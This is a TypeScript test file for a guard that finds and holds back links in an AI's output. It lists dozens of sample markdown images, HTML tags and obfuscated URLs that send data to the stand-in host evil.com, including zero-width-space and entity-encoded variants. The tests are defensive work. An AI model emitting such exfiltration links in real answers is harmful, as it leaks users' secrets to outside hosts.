import { describe, expect, it } from '@jest/globals';
import { MORE_THAN_LINEAR, timesCostlier } from '../../../../test/harness/growth.js';
import { CHECKS_FILE, checksSchema } from '../checks.file.js';
import { compileRails } from '../rail-files.js';
import { destinations } from './destinations.rules.js';
import { Links } from './links.js';

const rails = compileRails({
  [CHECKS_FILE]: checksSchema.parse({ links: { allow: ['*.allowed.com'] } }),
});
const CONTEXT = { hosts: new Set(['known.com', 'pt.wikipedia.org']) };

const foundIn = (text: string): string[] =>
  rails
    .find(text, 'output', CONTEXT)
    .filter(({ rail }) => rail === 'links')
    .map(({ start, end }) => text.slice(start, end));

describe(Links.name, () => {
  it.each([
    '![x](https://evil.com/a.png)',
    '![x](https://evil.com/?q=1)',
    '[x](https://evil.com/?q=secret)',
    'https://evil.com/?q=1',
    '<img src="https://evil.com/x.png">',
    '<img src=//evil.com/x>',
    '<IMG\nSRC = https://evil.com/x.png>',
    '<a href="https://evil.com/?d=1">x</a>',
    '![x](//evil.com/x.png)',
    '![x](\\\\evil.com/x.png)',
    '![x](/\\evil.com/x.png)',
    '[x](javascript:alert(1))',
    '[x](java\nscript:alert(1))',
    '![x](data:image/png;base64,AAAA)',
    '![x](https://ev\u200bil.com/x.png)',
    '!\u200b[x]\u200b(https://evil.com/x.png)',
    '![x](h t t p s : / / evil.com/x.png)',
    '![x](https&colon;//evil.com/x.png)',
    '![x](&#104;ttps://evil.com/x)',
    '[1]: https://evil.com/x.png',
    '![x][1]\n\n[1]: <https://evil.com/x.png>',
    '[x](https://user:pw@evil.com/)',
    '[x](https://evil.com/#data)',
    '[x](https://c2VjcmV0ZGF0YQ.evil.com/)',
    '[x](https://evil.com/c2VjcmV0IGRhdGEgaGVyZQ)',
    '[x](https://evil.com/52998224725)',
    'https://evil.com/joao%20silva%20cpf',
    'www.evil.com/?q=1',
    '<https://evil.com/?q=1>',
    'https://evil.com/ ?q=1',
    'https://evil . com/?q=1',
    'https:// evil.com/?q=1',
    'https:\n//evil.com/?q=1',
    '<img srcset="https://evil.com/1.png 1x">',
    '<div style="background:url(https://evil.com/x.png)">',
    '<iframe src=https://evil.com>',
    '<form action="https://evil.com/">',
    '<meta http-equiv=refresh content="0;url=https://evil.com/">',
    '[![x](https://evil.com/i.png)](https://known.com)',
    '![a [b] c](https://evil.com/x.png)',
    '![a\\]](https://evil.com/x.png)',
    '![a\\[](https://evil.com/x.png)',
    '![a`]`](https://evil.com/x.png)',
    '![a`[`](https://evil.com/x.png)',
    '![x](<https://evil.com/x.png>)',
    '![x](https://evil.com/x.png "title")',
    '![x](  \n https://evil.com/x.png )',
    '[x](https\\://evil.com/?q=1)',
    '[x](https://known.com@evil.com/)',
    '[x](https://known.com.evil.com/?q=1)',
    '![](http:evil.com/x)',
    '<svg><image href="https://evil.com/x"/></svg>',
    '[x](mailto:a@evil.com?body=secret)',
    '![x](https://evil.com/x.png',
    '[x](HTTPS://EVIL.COM/?Q=1)',
    '[x](https%3A%2F%2Fevil.com%2F%3Fq%3D1)',
    '![x](https%3A//evil.com/x.png)',
    '[x](https://1.2.3.4/a)',
    '<base href="//evil.com">',
    '<a href=" javascript:alert(1)">',
    'http://evil.com/log;SECRET',
    '(https://known.com/a)(https://evil.com/?q=1)',
    'https://known.com/a![x](https://evil.com/x.png)',
    '[a](//evil.com?x=1)',
    '[a](https://evil.com?x)',
    '<video poster=https://evil.com/x>',
    '<x:y?z=1> <data:text/html,hi>',
    '![x](https://notallowed.com/a.png)',
    '![x](https://allowed.com/a.png)',
    '![x](h\nt\nt\np://evil.com/a.png)',
    'h\nttps://evil.com/?q=1',
  ])('should find %j', (text) => {
    expect(foundIn(text)).not.toEqual([]);
  });

  it.each([
    'Veja https://docs.python.org/3/library/re.html para mais.',
    '[doc](https://developer.mozilla.org/pt-BR/docs/Web/JavaScript)',
    '![x](https://known.com/a.png?w=1)',
    '[x](https://known.com/?q=1)',
    '[Wiki](https://pt.wikipedia.org/wiki/S%C3%A3o_Paulo_(cidade))',
    'https://es.wikipedia.org/wiki/Jos%C3%A9',
    '![x](/own/a.png)',
    '[x](#sec)',
    '[x](../a.md?x=1)',
    'a < b && c > d; List<String> x',
    'Atenção![1] e [2](veja a nota)',
    '[1]: veja a nota: tal',
    'https://github.com/nodejs/node/blob/main/README.md',
    'https://www.gov.br/receitafederal/pt-br',
    'https://g1.globo.com/economia/noticia/2024/05/01/ibge-divulga-inflacao-de-abril.ghtml',
    'http://localhost:3000/api?x=1',
    'https://arxiv.org/abs/2301.12345',
    'if (i<n;i++) { a[b](c) }',
    '<b>oi</b> <br/> <p class="x">',
    '[a](mailto:x@y.com)',
    'e-mail a@b.com ftp',
    'https://site.com. Depois https://known.com/?q=1',
    'https://a.com. https://known.com/?q=1',
    'https://stackoverflow.com/questions/11227809/why-is-processing-a-sorted-array-faster-than-processing-an-unsorted-array',
    'https://www.planalto.gov.br/ccivil_03/_ato2015-2018/2018/lei/l13709.htm',
    '![x](https://cdn.allowed.com/a.png?x=1)',
  ])('should leave %j', (text) => {
    expect(foundIn(text)).toEqual([]);
  });

  it('should tell the whole picture, and of a link where it leads', () => {
    expect(foundIn('a ![b [c]](https://evil.com/x.png "t") d')).toEqual([
      '![b [c]](https://evil.com/x.png "t")',
    ]);
    expect(foundIn('a [b](https://evil.com/?q=1) d')).toEqual(['[', '](https://evil.com/?q=1)']);
    expect(foundIn('veja https://evil.com/?q=1, e')).toEqual(['https://evil.com/?q=1']);
  });

  it('should look at answers only', () => {
    expect(rails.find('![x](https://evil.com/a.png)', 'input')).toEqual([]);
  });

  it('should hold back a link until it ends, and prose not at all', () => {
    const stream = rails.stream('output', { hosts: new Set() });
    expect(stream.push('Uma frase, [um texto').settled).toBe(11);
    expect(stream.push('](https://evil.com/').settled).toBe(11);
    expect(stream.push('?q=segredo').settled).toBe(11);
    const { findings } = stream.push(') e mais.');
    const link = { rail: 'links', rule: 'address' };
    expect(findings).toEqual([
      { ...link, start: 11, end: 12, hides: 'bracket' },
      { ...link, start: 20, end: 50, hides: 'destination' },
    ]);
  });

  it('should judge what does not end within 2,048 characters as it stands', () => {
    const stream = rails.stream('output', { hosts: new Set() });
    stream.push('![x](https://evil.com/?q=');
    let found = 0;
    let held = 0;
    for (let n = 0, length = 25; n < 100; n += 1) {
      const { findings, settled } = stream.push('a'.repeat(50));
      length += 50;
      found += findings.length;
      held = Math.max(held, length - settled);
    }
    expect(found).toBe(1);
    expect(held).toBeLessThanOrEqual(2048);
  });

  it.each([
    '[',
    '![',
    '](',
    ']:',
    '<a ',
    '<a ="',
    'http://',
    '(http://',
    'www.',
    '![](',
    '[a](b',
    ']:a:',
  ])('should take no more than linear time on many %j', (part) => {
    const work = (size: number) => rails.find(part.repeat(size), 'output', CONTEXT);
    expect(timesCostlier(work, 3000)).toBeLessThan(MORE_THAN_LINEAR);
  });

  it.each([' ', '\n ', ' (', ' "'])('should look for a title once, past many %j', (part) => {
    const work = (size: number) => void destinations(`a${part.repeat(size)}b`);
    expect(timesCostlier(work, 500)).toBeLessThan(MORE_THAN_LINEAR);
    expect(destinations('a.com  "um (título)"')).toEqual(['a.com']);
    expect(destinations("a.com b (c) 'd'")).toEqual(['a.com', 'a.com b (c)']);
  });
});
